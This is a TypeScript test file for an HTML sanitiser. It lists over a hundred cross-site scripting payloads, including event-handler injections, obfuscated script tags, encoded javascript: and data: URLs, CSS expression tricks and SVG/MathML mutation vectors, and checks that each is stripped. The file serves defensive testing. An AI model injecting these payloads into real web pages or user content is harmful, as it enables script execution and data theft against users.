import { Parser } from 'htmlparser2'
import { expect, test } from 'vitest'
import { sanitiseHtml } from './sanitise-html.ts'

const harmlessTags =
  /^(a|abbr|address|article|aside|b|bdi|bdo|big|blockquote|br|caption|center|cite|code|col|colgroup|dd|del|details|dfn|div|dl|dt|em|figcaption|figure|font|footer|h[1-6]|header|hr|i|img|ins|kbd|li|main|mark|ol|p|pre|q|s|samp|section|small|span|strike|strong|sub|summary|sup|table|tbody|td|tfoot|th|thead|time|tr|tt|u|ul|var|wbr)$/
const harmlessAttributes =
  /^(style|dir|lang|title|align|class|href|name|rel|target|src|data-remote-src|alt|width|height|color|face|size|start|type|valign|bgcolor|colspan|rowspan|nowrap|border|cellpadding|cellspacing)$/
const address = /^(https?:\/\/|mailto:|tel:)/i
const picture = /^(cid:|data:image\/(png|jpe?g|gif|webp);base64,)/i

/** What a browser could run, load or leave by: everything that is not known to be harmless. */
function dangers(html: string): string[] {
  const found: string[] = []
  const parser = new Parser({
    onopentag: (name, attributes) => {
      if (!harmlessTags.test(name)) found.push(`<${name}>`)
      for (const [attribute, value] of Object.entries(attributes)) {
        if (!harmlessAttributes.test(attribute)) found.push(attribute)
        if (attribute === 'href' && !address.test(value)) found.push(`href ${value}`)
        if (attribute === 'src' && !picture.test(value)) found.push(`src ${value}`)
        if (attribute === 'style' && /url|expression|@|\\|position|behavio|binding|script|[<>{}]/i.test(value)) found.push(`style ${value}`)
      }
    },
    oncomment: () => found.push('comment'),
    onprocessinginstruction: () => found.push('instruction'),
  })
  parser.end(html)
  return found
}

test('what finds dangers finds them', () => {
  const bad =
    '<script>x</script><a href="javascript:x" onclick=x>a</a><img src=https://x.example><p style="background:url(x)">a</p><!-- x -->'
  expect(dangers(bad)).toHaveLength(6)
})

const js = 'alert(1)'
const attacks: string[] = [
  // Handlers of events, in all the ways to write an attribute.
  `<img src=x onerror=${js}>`,
  `<IMG SRC=x OnErRoR="${js}">`,
  `<img/src=x/onerror=${js}>`,
  `<img src=x\nonerror\n=\n${js}>`,
  `<img src="x"onerror="${js}">`,
  `<img src=x o\u0000nerror=${js}>`,
  `<img \u000conerror=${js} src=x>`,
  `<img """><script>${js}</script>">`,
  `<body onload=${js}>x</body>`,
  `<details open ontoggle=${js}>x</details>`,
  `<div onpointerenter=${js}>x</div>`,
  `<p onfocus=${js} tabindex=1 autofocus>x</p>`,
  `<marquee onstart=${js}>x</marquee>`,
  `<video onerror=${js}><source></video>`,
  `<audio src=x onerror=${js}>`,
  `<b style=animation-name:x onanimationstart=${js}>x</b>`,
  // Scripts.
  `<script>${js}</script>`,
  `<scr<script>ipt>${js}</scr</script>ipt>`,
  `<script src=//x.example/a.js></script>`,
  `<script\n>${js}</script\n>`,
  `<script/x>${js}</script>`,
  `<<script>${js}//<</script>`,
  `<script>/*</title></style></script>*/${js}`,
  `<xml onreadystatechange=${js}>`,
  `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${js}</script>`,
  `<![CDATA[<script>${js}</script>]]>`,
  `<!--[if gte IE 4]><script>${js}</script><![endif]-->`,
  `<!--><img src=x onerror=${js}>-->`,
  `<!-- --!><img src=x onerror=${js}> -->`,
  // Addresses that run.
  `<a href="javascript:${js}">x</a>`,
  `<a href=" &#14; javascript:${js}">x</a>`,
  `<a href="jav&#x09;ascript:${js}">x</a>`,
  `<a href="jav\nascript:${js}">x</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${js}">x</a>`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${js}">x</a>`,
  `<a href="javascript&colon;${js}">x</a>`,
  `<a href="java&Tab;script:${js}">x</a>`,
  `<a href="\u0001javascript:${js}">x</a>`,
  `<a href="JaVaScRiPt:${js}">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="livescript:${js}">x</a>`,
  `<a href="data:text/html,<script>${js}</script>">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="view-source:javascript:${js}">x</a>`,
  `<a href="blob:https://x.example/1">x</a>`,
  `<a href="file:///etc/passwd">x</a>`,
  `<a href="feed:javascript:${js}">x</a>`,
  `<a href="ms-word:ofe|u|https://x.example/a.docx">x</a>`,
  `<a href="//x.example">x</a>`,
  `<a xlink:href="javascript:${js}">x</a>`,
  `<img src="javascript:${js}">`,
  `<img src="vbscript:msgbox(1)">`,
  `<img dynsrc="javascript:${js}" lowsrc="javascript:${js}">`,
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<img src="data:text/html;base64,PHNjcmlwdD4=">`,
  `<img src="data:image/png,<svg onload=${js}>">`,
  // Other documents, and leaving this one.
  '<iframe src="https://x.example"></iframe>',
  `<iframe srcdoc="<script>${js}</script>"></iframe>`,
  '<frameset><frame src="https://x.example"></frameset>',
  `<object data="data:text/html,<script>${js}</script>"></object>`,
  '<embed src="https://x.example/a.swf" allowscriptaccess=always>',
  '<applet code="A.class" archive="https://x.example/a.jar"></applet>',
  '<portal src="https://x.example"></portal>',
  '<meta http-equiv="refresh" content="0;url=https://x.example">',
  `<META HTTP-EQUIV="Set-Cookie" Content="a=<SCRIPT>${js}</SCRIPT>">`,
  '<base href="https://x.example/">',
  '<link rel="stylesheet" href="https://x.example/a.css">',
  '<link rel=import href="https://x.example">',
  '<a href="https://x.example" ping="https://x.example/p" download="a.exe">x</a>',
  // Forms.
  '<form action="https://x.example"><input name=password type=password><button>go</button></form>',
  `<button form=f formaction="javascript:${js}">x</button>`,
  `<isindex action="javascript:${js}" type=image>`,
  '<textarea autofocus>x</textarea><select><option>x</select>',
  `<keygen autofocus onfocus=${js}>`,
  // Loading without being asked.
  '<img srcset="https://x.example/a.png 1x, https://x.example/b.png 2x">',
  '<picture><source srcset="https://x.example/a.png"><img src=x></picture>',
  '<video poster="https://x.example/a.png" src="https://x.example/a.mp4"></video>',
  '<input type=image src="https://x.example/a.png">',
  '<body background="https://x.example/a.png">x</body>',
  '<table background="javascript:alert(1)"><tr><td background="https://x.example/a.png">x</td></tr></table>',
  '<bgsound src="https://x.example/a.wav">',
  // Styles.
  '<style>@import "https://x.example/a.css"; body{background:url(https://x.example/a.png)}</style>',
  '<style><img src="</style><img src=x onerror=alert(1)//"></style>',
  '<p style="background:url(https://x.example/p.gif)">x</p>',
  '<p style="background-image:u\\72l(https://x.example)">x</p>',
  '<p style="background:\\75 rl(https://x.example)">x</p>',
  '<p style="background:/**/url(https://x.example)">x</p>',
  `<p style="width:expression(${js})">x</p>`,
  `<p style="width:exp/**/ression(${js})">x</p>`,
  `<p style="border:expression(${js})">x</p>`,
  `<p style="xss:&#101;xpression(${js})">x</p>`,
  '<p style="-moz-binding:url(https://x.example/a.xml#x)">x</p>',
  '<p style="behavior:url(a.htc)">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</p>',
  '<p style="list-style:url(https://x.example)">x</p>',
  '<p style="color:red;}</style><script>alert(1)</script>">x</p>',
  '<p style="font-family:\'a;background:url(https://x.example)\'">x</p>',
  '<p style="content:attr(x);cursor:url(https://x.example),auto">x</p>',
  // Markup of other kinds, and what changes when it is read a second time.
  `<svg onload=${js}>`,
  `<svg><script>${js}</script></svg>`,
  `<svg><a xlink:href="javascript:${js}"><text>x</text></a></svg>`,
  `<svg><animate xlink:href=#x attributeName=href values=javascript:${js} /><a id=x>x</a></svg>`,
  `<svg><foreignObject><iframe src="javascript:${js}"></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${js}'/>#x"></use></svg>`,
  `<svg><set attributeName="onmouseover" to="${js}"/></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${js}>">`,
  `<math><mi xlink:href="javascript:${js}">x</mi></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
  `<math href="javascript:${js}">x</math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`,
  `<noscript><p title="</noscript><img src=x onerror=${js}>"></noscript>`,
  `<noembed><img title="</noembed><img src=x onerror=${js}>"></noembed>`,
  `<noframes><style></noframes><img src=x onerror=${js}></style>`,
  `<template><script>${js}</script></template>`,
  `<template shadowrootmode=open><img src=x onerror=${js}></template>`,
  `<title><p title="</title><img src=x onerror=${js}>"></title>`,
  `<textarea><p title="</textarea><img src=x onerror=${js}>"></textarea>`,
  `<xmp><p title="</xmp><img src=x onerror=${js}>"></xmp>`,
  `<plaintext><img src=x onerror=${js}>`,
  `<listing>&lt;img src=x onerror=${js}&gt;</listing>`,
  `<select><style></select><img src=x onerror=${js}></style>`,
  `<p title="&lt;/p&gt;&lt;img src=x onerror=${js}&gt;" onclick=x>x</p>`,
  '<img alt="`><script>alert(1)</script>" title="``onerror=alert(1)">',
  `<a title="x" href='x' 'onclick=${js}'>x</a>`,
  `<div id=x name=x><a id=attributes name=cookie href=x>x</a></div>`,
  `<custom-element onclick=${js} is=x>x</custom-element>`,
  `<table><tr><td><img src=x onerror=${js}`,
  `${'<div>'.repeat(600)}<img src=x onerror=${js}>`,
  `<v:rect style="behavior:url(#default#VML)" onmouseover=${js}></v:rect>`,
  `<o:p onclick=${js}>x</o:p>`,
  `\ufeff<script>${js}</script>`,
  `%3Cscript%3E${js}%3C/script%3E<script>${js}</script>`,
  `+ADw-script+AD4-${js}+ADw-/script+AD4-<script>${js}</script>`,
]

test.each(attacks)('nothing active is left of %j', (attack) => {
  const { html } = sanitiseHtml(attack)
  expect(dangers(html)).toEqual([])
  expect(sanitiseHtml(html).html).toBe(html)
})

test.each(attacks)('inside a table, a quotation and an attribute nothing active is left of %j', (attack) => {
  const escaped = attack.replaceAll('"', '&quot;')
  const nested = `<blockquote><table><tr><td>${attack}</td></tr></table></blockquote><p title="${escaped}">x</p>`
  expect(dangers(sanitiseHtml(nested).html)).toEqual([])
})

test('the table of attacks is long enough to mean something', () => {
  expect(new Set(attacks).size).toBeGreaterThan(100)
})
